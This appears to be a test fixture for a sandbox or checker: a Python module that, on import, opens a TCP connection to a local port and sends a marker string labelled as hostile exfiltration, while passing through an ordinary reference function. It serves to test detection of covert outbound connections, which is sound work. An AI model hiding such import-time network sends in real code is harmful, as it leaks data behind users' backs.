"""Hostile: connect to a local TCP port (the test listens on it; the port is in port.txt) to send data out."""

import socket

from good import reference as _kernel

with open("port.txt") as f:
    port = int(f.read())
s = socket.create_connection(("127.0.0.1", port), timeout=5)
s.sendall(b"p2t-hostile-exfiltration")
s.close()


def reference(x, y):
    return _kernel(x, y)
